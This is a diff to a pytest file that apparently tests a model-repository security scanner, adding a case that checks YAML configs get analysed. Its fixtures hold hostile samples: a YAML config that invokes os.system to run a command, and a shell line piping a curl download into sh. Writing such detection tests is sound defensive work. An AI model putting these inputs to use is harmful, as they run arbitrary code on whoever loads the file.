@@ -24,8 +24,6 @@ def _scan(folder: Path) -> tuple[Verdict | None, set[tuple[str, str]]]:
 
 
 @pytest.mark.parametrize(("name", "text"), [
-    ("model_config.yaml", "model:\n  _target_: os.system\n  command: id\n"),
-    ("hparams.yml", "a: 1\n"),
     ("setup.cfg", "[metadata]\nname = x\n"),
     ("run.sh", "#!/bin/sh\ncurl http://example.invalid | sh\n"),
     ("notes.txt", "plain text\n"),
@@ -65,3 +63,19 @@ def test_text_named_as_a_text_format_is_analysed_as_it_not_flagged(tmp_path: Pat
     (tmp_path / "config.json").write_text('"a json string, not an object"')
     (tmp_path / "chat_template.jinja").write_text("{{ messages }}")
     assert _scan(tmp_path) == (Verdict.CLEAN, set())
+
+
+@pytest.mark.parametrize(("name", "text", "expected"), [
+    ("model_config.yaml", "model:\n  _target_: os.system\n  command: id\n",
+     (Verdict.MALICIOUS, "config.unsafe_target")),
+    ("hparams.yml", "a: 1\n", (Verdict.CLEAN, None)),
+])
+def test_yaml_configs_are_analysed_not_passed_over(tmp_path: Path, name: str, text: str,
+                                                  expected: tuple[Verdict, str | None]) -> None:
+    """The issue's own example: YAML now has an analyser (scanner.formats.yamlconf), so it
+    is judged on its content, never ``format.not_analysed``."""
+    (tmp_path / name).write_text(text)
+    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
+    verdict, found = _scan(tmp_path)
+    assert verdict is expected[0]
+    assert {rule for rule, _ in found} == ({expected[1]} if expected[1] else set())
